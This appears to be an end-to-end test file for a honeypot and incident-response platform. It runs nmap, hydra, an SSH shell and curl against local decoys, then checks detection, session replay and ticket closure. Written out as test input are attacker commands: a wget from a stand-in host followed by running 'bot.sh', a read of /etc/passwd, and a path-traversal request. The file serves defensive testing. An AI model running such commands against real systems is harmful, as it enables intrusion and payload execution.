/** The whole system as its people use it: attackers' own clients, the console in a browser, a ticket worked to closure, a restart. */
import assert from 'node:assert/strict'
import { execFile, spawn } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import { promisify } from 'node:util'
import { openConsole, sshOptions, sshRun } from './clients.ts'
import { type Installation, install, until } from './installation.ts'

const execute = promisify(execFile)
describe('an attack, seen live and worked to closure', () => {
  let site: Installation
  let folder: string
  let password: string

  before(async () => {
    folder = mkdtempSync(join(tmpdir(), 'shenlou-whole-'))
    site = await install()
    await site.signIn()
    password = await site.password('portal')
  })
  after(async () => {
    await site?.remove()
    rmSync(folder, { recursive: true, force: true })
  })

  test('nmap finds the decoys, and the scan is a finding of its address', async () => {
    const ports = [site.ports.portal, site.ports.https, site.ports.ssh, site.ports.router].join(',')
    // Connections of -sT are reset before they are taken, and the kernel then names nobody; the banner script completes its own and says nothing.
    const { stdout } = await execute('nmap', ['-sT', '-sV', '--version-light', '--script', 'banner', '-Pn', '-n', '-p', ports, '127.0.0.1'])
    assert.match(stdout, new RegExp(`${site.ports.ssh}/tcp\\s+open\\s+ssh\\s+OpenSSH 7\\.4`))
    assert.match(stdout, new RegExp(`${site.ports.router}/tcp\\s+open\\s+ssh\\s+Dropbear`, 'i'))
    assert.match(stdout, new RegExp(`${site.ports.portal}/tcp\\s+open\\s+http\\s+nginx`))
    const found = await until('a scan finding that names the scanner', async () =>
      (await site.call('findings', { query: { technique: 'T1046' } })).items.find(({ source }) => source !== null),
    )
    assert.equal(found.source, '127.0.0.1')
    assert.ok(found.evidence.length > 0, 'it shows what was touched')
    const { events } = await site.call('events', { query: { kind: 'scan.detected', source: '127.0.0.1' } })
    const touched = new Set(events.flatMap(({ body }) => body.ports as number[]))
    for (const port of [site.ports.ssh, site.ports.router]) assert.ok(touched.has(port), `port ${port} is among those touched: ${[...touched].join(' ')}`)
  })

  test('hydra guesses, and ten thousand guesses would be one finding', async () => {
    const words = join(folder, 'words')
    writeFileSync(words, Array.from({ length: 8 }, (_, i) => `guess-${i}`).join('\n'))
    await execute('hydra', ['-l', 'root', '-P', words, '-t', '4', '-I', '-s', String(site.ports.ssh), '127.0.0.1', 'ssh']).catch(() => undefined)
    const items = await until('a brute force finding', async () => {
      const { items } = await site.call('findings', { query: { technique: 'T1110.001' } })
      return items.length > 0 && items
    })
    assert.equal(items.length, 1)
  })

  let seen: Buffer
  let sessionId: string

  test('a shell over ssh is shown key by key in the console while it runs', async () => {
    const client = spawn('sshpass', ['-p', password, 'ssh', '-tt', ...sshOptions, '-p', String(site.ports.ssh), 'root@127.0.0.1'], {
      stdio: ['pipe', 'pipe', 'pipe'],
    })
    const parts: Buffer[] = []
    client.stdout.on('data', (part: Buffer) => parts.push(part))
    const output = (): string => Buffer.concat(parts).toString('latin1')
    await until('a prompt', () => output().includes('# '))
    const live = await until('the live session', async () =>
      (await site.call('sessions', { query: { live: 'true' } })).items.find(({ loggedIn, service }) => loggedIn && service === 'ssh'),
    )
    sessionId = live.id

    const { page, close } = await openConsole(site)
    try {
      await page.goto(`${site.url}/sessions/${sessionId}`)
      await page.waitForSelector('.xterm-rows')
      client.stdin.write('echo mark-$((40+2))-live\r')
      await until('the mark at the client', () => output().includes('mark-42-live'))
      await page.waitForFunction(() => document.querySelector('.xterm-rows')?.textContent?.includes('mark-42-live'), undefined, { timeout: 5000 })
      client.stdin.write('uname -a; id; cat /etc/passwd | head -n 2\r')
      client.stdin.write('cd /tmp && wget http://198.51.100.7/bot.sh\r')
      await until(
        'the download that leads nowhere',
        () => /198\.51\.100\.7/.test(output().split('bot.sh').at(-1) ?? '') || /[Cc]onnect/.test(output().split('bot.sh').at(-1) ?? ''),
      )
      client.stdin.write('\x03')
      client.stdin.write('chmod +x bot.sh; ./bot.sh\r')
    } finally {
      await close()
    }
    const gone = new Promise((done) => client.once('exit', done))
    client.stdin.write('exit\r')
    await gone
    seen = Buffer.concat(parts)
    assert.match(seen.toString('latin1'), /mark-42-live/)
  })

  test('the replay is byte for byte what the client saw', async () => {
    const recording = await until('the whole recording', async () => {
      const recording = await site.call('recording', { params: { id: sessionId } })
      return (
        recording.marks.some(({ technique }) => technique === 'T1105') &&
        (await site.call('session', { params: { id: sessionId } })).endedAt !== null &&
        recording
      )
    })
    const replayed = Buffer.concat(recording.frames.filter(([, stream]) => stream === 'o').map(([, , data]) => Buffer.from(data, 'base64')))
    assert.equal(replayed.toString('hex'), seen.toString('hex'))
    assert.ok(
      recording.marks.some(({ technique }) => technique === 'T1105'),
      'the download is marked on the scrub bar',
    )
  })

  test('curl on the portal is captured whole, with its credentials', async () => {
    const { stdout } = await execute('curl', ['-s', '-i', `http://127.0.0.1:${site.ports.portal}/?q=../../etc/passwd`, '-H', 'X-Probe: whole-system'])
    assert.match(stdout, /^HTTP\/1\.1 200 OK\r\nServer: nginx/)
    const event = await until('the exchange', async () => (await site.call('events', { query: { kind: 'http.exchanged', text: 'whole-system' } })).events[0])
    assert.equal(event.source?.ip, '127.0.0.1')
    assert.ok((event.body.headers as string[][]).some(([name, value]) => name === 'X-Probe' && value === 'whole-system'))
  })

  test('an alert of another tool with the same source joins the same incident, and one ticket holds all', async () => {
    const source = await site.call('createSource', {
      body: { name: 'ids-1', format: 'suricata-eve', transport: 'http', scope: 'group/head-office', allowed: [] },
    })
    const alert = {
      timestamp: new Date().toISOString(),
      flow_id: 77,
      event_type: 'alert',
      src_ip: '127.0.0.1',
      src_port: 40000,
      dest_ip: '127.0.0.1',
      dest_port: 22,
      proto: 'TCP',
      alert: {
        action: 'allowed',
        gid: 1,
        signature_id: 2001219,
        rev: 20,
        signature: 'Potential SSH Scan',
        category: 'Attempted Information Leak',
        severity: 2,
      },
    }
    const answer = await site.call('pushAlerts', { params: { id: source.id }, body: `${JSON.stringify(alert)}\n` })
    assert.deepEqual({ accepted: answer.accepted, rejected: answer.rejected }, { accepted: 1, rejected: [] })
    const incident = await until('the alert in the incident', async () =>
      (await site.call('incidents', { query: { source: '127.0.0.1' } })).items.find(({ products }) => products.includes('Suricata')),
    )
    const { items } = await site.call('incidents', { query: { source: '127.0.0.1' } })
    assert.equal(items.filter(({ mergedInto }) => mergedInto === null).length, 1, 'one incident')
    assert.ok(incident.sessions > 0 && incident.ticket)
    const tickets = await site.call('tickets', { query: { open: 'true' } })
    assert.equal(tickets.items.length, 1, 'one ticket')
    const { items: notices } = await site.call('notices', {})
    assert.equal(notices.filter(({ kind }) => kind === 'ticket').length, 1, 'one notice')
  })

  test('the ticket goes from new to closed by the actions that the server allows', async () => {
    const [first] = (await site.call('tickets', { query: { open: 'true' } })).items
    assert.ok(first)
    const me = await site.call('me', {})
    const params = { id: first.id }
    let ticket = first
    const step = async (action: string, more: Record<string, unknown> = {}): Promise<void> => {
      assert.ok(
        ticket.actions.some((allowed) => allowed.action === action),
        `${action} is allowed in ${ticket.state}: ${ticket.actions.map((allowed) => allowed.action).join(', ')}`,
      )
      ticket = await site.call('stepTicket', { params, body: { action, version: ticket.version, ...more } as never })
    }
    assert.equal(ticket.state, 'new')
    await step('triage')
    await step('assign', { assignee: me.id })
    await step('start')
    await step('comment', { comment: 'source blocked at the firewall' })
    await step('contain', { comment: 'blocked at the firewall' })
    await step('link', { evidence: { kind: 'session', target: sessionId, why: 'the whole shell session' } })
    await step('close_fixed', { reason: 'the credential was withdrawn, the source is blocked' })
    assert.equal(ticket.state, 'closed_fixed')
    const { activity, evidence } = await site.call('ticket', { params })
    assert.ok(activity.length >= 7)
    assert.ok(evidence.some(({ target }) => target === sessionId))
    const { intact } = await site.call('verifyAudit', {})
    assert.equal(intact, true)
  })

  test('after a restart all is there, and the replay is still the same bytes', async () => {
    const before = (await site.call('events', { query: { limit: 1 } })).newest
    await site.restart()
    await site.signIn()
    assert.ok((await site.call('events', { query: { limit: 1 } })).newest >= before)
    const recording = await site.call('recording', { params: { id: sessionId } })
    const replayed = Buffer.concat(recording.frames.filter(([, stream]) => stream === 'o').map(([, , data]) => Buffer.from(data, 'base64')))
    assert.ok(replayed.equals(seen))
    // What the attacker left is still there for it: bot.sh never came, and /tmp is the one it used.
    assert.equal(await sshRun(site.ports.ssh, password, 'echo after restart'), 'after restart\n')
  })
})
